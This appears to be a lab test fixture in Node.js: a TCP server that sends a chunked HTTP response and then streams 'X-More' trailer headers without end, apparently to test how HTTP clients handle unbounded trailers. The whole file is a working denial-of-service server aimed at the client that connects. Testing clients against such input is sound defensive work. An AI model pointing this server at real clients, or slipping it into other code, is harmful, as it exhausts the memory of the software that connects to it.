// exploit: ends its chunks and then sends trailers for ever
// part: no
// kind: lab
// exchange: not-http
// outcome: finished
require('node:net').createServer((socket) => {
  socket.on('error', () => {})
  socket.write('HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\n')
  const more = () => { while (!socket.destroyed && socket.write('X-More: yes\r\n'.repeat(100))) continue }
  socket.on('drain', more)
  more()
}).listen(process.env.PORT)
